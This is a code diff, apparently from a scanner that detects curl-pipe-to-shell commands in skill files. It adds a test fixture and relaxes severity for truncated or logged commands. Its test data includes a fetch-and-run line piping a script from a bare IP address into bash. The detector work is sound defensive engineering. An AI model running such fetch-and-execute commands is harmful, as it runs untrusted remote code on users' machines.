@@ -31,6 +31,7 @@ BAD = [
     },
 ]
 GOOD = [
+    "---\nname: a\ndescription: b\n---\nThe installer uses `curl … | sh`, which your sandbox may ask about.\n",
     "---\nname: a\ndescription: b\n---\n```bash\ncurl -s https://api.example.com/v1 | jq .\n```\n",
     "---\nname: a\ndescription: b\n---\nInstall uv: `curl -LsSf https://astral.sh/uv/install.sh | sh`\n",
     "---\nname: a\ndescription: b\n---\nNever run `curl http://203.0.113.7/x | bash` on a machine you care about.\n",
@@ -54,7 +55,8 @@ def find(skill):
             continue
         near = skill.around(command.block) if command.block is not None else []
         severity, confidence = _weight(skill, found)
-        if shown_as_bad(command.block, near, command.line) or skill.is_lesson(command.block):
+        told = not found and any(re.search(r"\s(?:…|\.\.\.)\s{0,3}$", c.raw) for c in command.before)
+        if told or shown_as_bad(command.block, near, command.line) or skill.is_lesson(command.block):
             severity, confidence = Severity.LOW, Confidence.LOW
         elif severity is Severity.HIGH and _is_reference(skill, command) and all(a.scheme == "https" for a in found):
             severity = Severity.MEDIUM
@@ -79,7 +81,7 @@ def _in_strings(skill):
             if (
                 (source.path, line) in seen
                 or not found
-                or re.match(r"\s{0,40}(?:#|//|\*|echo |print|console\.log|log)", row)
+                or re.match(r"\s{0,40}(?:#|//|\*|echo |print|console\.\w{3,5}|log)", row)
             ):
                 continue
             severity, confidence = _weight(skill, found)
